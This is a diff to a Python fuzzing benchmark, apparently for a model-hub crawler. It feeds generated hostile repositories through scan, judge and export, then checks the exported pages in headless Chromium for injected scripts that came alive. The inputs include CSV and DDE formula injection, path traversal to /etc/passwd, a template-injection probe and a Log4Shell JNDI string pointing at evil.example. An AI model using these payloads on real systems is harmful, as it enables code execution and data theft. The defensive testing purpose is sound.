@@ -1,11 +1,15 @@
-"""Hostile repositories through the local Hub, a scan and a judging: what crashed, what hung, what took how long.
+"""Hostile repositories through the local Hub, scan, judge and export: what crashed, what hung, how long it took.
 
-python bench/hostile.py [N]        default 10,000 models, the same ones every time
+python bench/hostile.py [N] [SEED]        default 10,000 models, the same ones for the same seed
+
+With Chromium and its driver, the pages of some of them are opened and searched for scripts that came alive.
 """
 
 from __future__ import annotations
 
+import os
 import random
+import re
 import sqlite3
 import subprocess
 import sys
@@ -14,6 +18,9 @@ import time
 from collections import Counter
 from collections.abc import Callable
 from pathlib import Path
+
+from selenium import webdriver
+from selenium.webdriver.chrome.service import Service
 
 UNITS = (
     "-", "_", " ", ".", "\n", "\t", "/", "0", "a", "é", "中", "\u202e", "\u200b", "\0", "[", "(", "*", "`", "<", ">",
@@ -30,13 +37,18 @@ LITERAL = (
     '=HYPERLINK("http://evil.example","x")', "@SUM(1+1)*cmd|' /C calc'!A0", "../../etc/passwd",
     "{% for x in ().__class__.__bases__ %}", "\x1b]8;;http://evil.example\x07", "${jndi:ldap://evil.example/a}",
 )  # fmt: skip
-LONGEST = 200_000
+SIZES = (*(50,) * 10, *(1_000,) * 6, *(20_000,) * 3, 200_000)  # characters: many short ones, so that ten thousand fit
+CHROMIUM, DRIVER = Path("/usr/bin/chromium"), Path("/usr/bin/chromedriver")
+ALIVE = """return [...document.querySelectorAll('*')].filter(one =>
+    (one.tagName === 'SCRIPT' && one.textContent.includes('alert(1)')) ||
+    [...one.attributes].some(its => (/^on/.test(its.name) && its.value.includes('alert')) ||
+        (/^(href|src|action)$/.test(its.name) && /^\\s*javascript:/i.test(its.value)))).length"""
 Make = Callable[[random.Random], str]
 
 
 def _run(rng: random.Random) -> str:
     unit = rng.choice(UNITS)
-    return unit * (rng.choice((50, 1_000, 20_000, LONGEST)) // len(unit) + 1)
+    return unit * (rng.choice(SIZES) // len(unit) + 1)
 
 
 def _mix(rng: random.Random) -> str:
@@ -45,7 +57,7 @@ def _mix(rng: random.Random) -> str:
 
 def _yaml(rng: random.Random) -> str:
     unit = rng.choice(YAML)
-    lines = "".join(unit.format(n, n) for n in range(rng.choice((5, 500, 20_000))))
+    lines = "".join(unit.format(n, n) for n in range(rng.choice(SIZES) // len(unit)))
     return f"---\nlicense: mit\n{rng.choice(('datasets', 'base_model', 'tags', 'license'))}:\n{lines}\n---\n# Gull\n"
 
 
@@ -72,9 +84,9 @@ KINDS: dict[str, Make] = {
 }  # fmt: skip
 
 
-def make(root: Path, number: int) -> list[str]:
+def make(root: Path, number: int, seed: int) -> list[str]:
     """The hub directory; gives the kind of each model."""
-    rng = random.Random(7)
+    rng = random.Random(seed)
     kinds = []
     for place in range(number):
         kind = rng.choice(list(KINDS))
@@ -94,9 +106,10 @@ def make(root: Path, number: int) -> list[str]:
 
 
 def main() -> None:
-    number = int(sys.argv[1]) if len(sys.argv) > 1 else 10_000
+    given = [int(word) for word in sys.argv[1:]]
+    number, seed = (given + [10_000, 7][len(given) :])[:2]
     with tempfile.TemporaryDirectory() as work:
-        kinds = make(Path(work, "hub"), number)
+        kinds = make(Path(work, "hub"), number, seed)
         db = Path(work, "x.db")
         serve = [sys.executable, "-m", "crawler", "serve-hub", str(Path(work, "hub")), "--port", "0"]
         server = subprocess.Popen(serve, stdout=subprocess.PIPE, text=True)
@@ -105,7 +118,10 @@ def main() -> None:
         run("scan", "--db", str(db), "--hub", hub, "--github", hub, "--scope", "all")
         run("judge", "--db", str(db))
         server.terminate()
+        run("export", "--db", str(db), str(Path(work, "out")))
         table(db, kinds)
+        if CHROMIUM.exists() and DRIVER.exists():
+            browse(db)
 
 
 def run(*command: str) -> None:
@@ -126,6 +142,30 @@ def table(db: Path, kinds: list[str]) -> None:
         print(f"{kind:26} {count:6} {len(ids & judged):7} {late:5} {sum(rules.values()):7}")
     for repo_id, quote in found.execute("SELECT repo_id, quote FROM evidence WHERE rule = 'detector-error' LIMIT 5"):
         print(repo_id, quote)
+
+
+def browse(db: Path) -> None:
+    """Open the pages of models whose quotes hold mark-up."""
+    quoting = "SELECT DISTINCT repo_id FROM evidence WHERE quote GLOB '*[<]*' OR quote LIKE '%javascript:%' LIMIT 40"
+    ids = [repo_id for (repo_id,) in sqlite3.connect(db).execute(quoting)]
+    serve = [sys.executable, "-m", "crawler", "serve", "--db", str(db), "--port", "0"]
+    server = subprocess.Popen(serve, stdout=subprocess.PIPE, text=True, env={**os.environ, "PYTHONUNBUFFERED": "1"})
+    assert server.stdout is not None
+    address = re.search(r"http://[^/\s]+", server.stdout.readline())
+    assert address
+    options = webdriver.ChromeOptions()
+    for flag in ("--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"):
+        options.add_argument(flag)
+    options.set_capability("unhandledPromptBehavior", "ignore")  # an alert that opened is an error of the next call
+    browser = webdriver.Chrome(options, Service(str(DRIVER)))
+    alive = 0
+    for repo_id in ids:
+        browser.get(f"{address.group()}/hub-openness/models/{repo_id.replace('/', '~2F')}")
+        assert repo_id in browser.title, browser.title
+        alive += int(browser.execute_script(ALIVE))
+    browser.quit()
+    server.terminate()
+    print(f"{len(ids)} pages in a browser, {alive} live scripts")
 
 
 if __name__ == "__main__":
